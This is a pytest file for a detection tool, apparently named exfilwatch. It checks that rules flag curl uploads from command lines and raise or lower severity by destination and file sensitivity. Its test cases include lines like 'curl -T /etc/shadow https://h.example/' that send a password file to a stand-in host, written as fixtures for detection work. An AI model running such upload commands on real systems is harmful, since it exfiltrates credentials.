"""Fields made of a command line: rules see them, and screens and queries ask for what they imply instead."""

from collections.abc import Iterator
from pathlib import Path

import pytest
from tests.sigma.one import WAYS, Way, event, found, loaded

from exfilwatch.detection.condition import compiled, fields
from exfilwatch.detection.derived import DERIVED
from exfilwatch.detection.load import load
from exfilwatch.detection.rule import Verdict
from exfilwatch.errors import RuleError
from exfilwatch.events.event import Event
from exfilwatch.packaged import read_yaml

ROOT = Path(__file__).parents[2]
CATALOGUE = sorted((ROOT / "tests/commands/catalogue").glob("*.yml"))
EXFIL = ROOT / "connector/exfilwatch/rules/exfil"
RULE = """
title: Any Upload
id: 0c6a5c0e-7e10-4d51-9f7a-51a0f1a9e5a1
logsource: {category: process_creation}
detection:
  upload: {transfer.direction: upload}
  near: {transfer.destination_class: [loopback, private]}
  sensitive: {'transfer.sensitive_source|exists': true}
  condition: upload
level: medium
exfilwatch: {graver: sensitive, milder: near, fields: [to: transfer.destination]}
"""
CASES = [
    ("curl -T /srv/a https://h.example/", "medium", "h.example"),
    ("curl -T /etc/shadow https://h.example/", "high", "h.example"),
    ("curl -T /srv/a http://127.0.0.1/", "low", "127.0.0.1"),
    ("curl -T /etc/shadow http://127.0.0.1/", "medium", "127.0.0.1"),
]


@pytest.mark.parametrize("way", WAYS)
@pytest.mark.parametrize(("line", "level", "to"), CASES)
def test_a_rule_asks_for_derived_fields_and_its_level_follows_them(line: str, level: str, to: str, way: Way) -> None:
    record = {"Image": r"C:\Windows\System32\curl.exe", "CommandLine": line}
    (detection,) = found(loaded(RULE), record, way)
    assert (detection.rule.level, detection.fields) == (level, {"to": to})
    assert [(signal.field, signal.matched) for signal in detection.signals] == [("transfer.direction", "upload")]


@pytest.mark.parametrize("way", WAYS)
def test_a_download_is_silent(way: Way) -> None:
    record = {"Image": "/usr/bin/curl", "CommandLine": "curl -o a https://h.example/"}
    assert found(loaded(RULE), record, way) == []


def test_what_a_level_depends_on_must_be_a_condition_over_selections() -> None:
    with pytest.raises(RuleError, match=r"exfilwatch: graver: .*nothing_like_it"):
        loaded(RULE.replace("graver: sensitive", "graver: nothing_like_it"))


def said() -> Iterator[tuple[str, str]]:
    for path in CATALOGUE:
        for case in read_yaml(path.read_text("utf-8")):
            yield str(case["line"]), str(case.get("image", "")) or "/bin/sh"


def events() -> list[Event]:
    """What the catalogue's tests have, as processes: programs, or shells that are given the line."""
    made = []
    for line, image in said():
        shell = r"C:\Windows\System32\cmd.exe" if "\\" in image else "/bin/sh"
        made.append(event({"Image": image, "CommandLine": line}))
        made.append(event({"Image": shell, "CommandLine": f"{'cmd /c' if chr(92) in image else 'sh -c'} {line}"}))
        made.append(event({"CommandLine": line}))
    return made


def test_what_a_rule_asks_of_derived_fields_implies_what_its_screen_asks_of_the_event() -> None:
    rules = load([EXFIL]).rules
    asking = [rule for rule in rules if any(field in DERIVED for field in fields(rule.condition))]
    assert len(asking) > 20
    fired = [
        (rule, each)
        for each in events()
        for rule in asking
        if rule.source.category == "process_creation" and Verdict(rule, each).condition
    ]
    assert len(fired) > 500
    for implied in ("screen", "asked"):
        holds = {rule.id: compiled(getattr(rule, implied)) for rule in asking}
        missed = [each.fields for rule, each in fired if not holds[rule.id](rule.getter(each), each)]
        assert (implied, missed) == (implied, [])
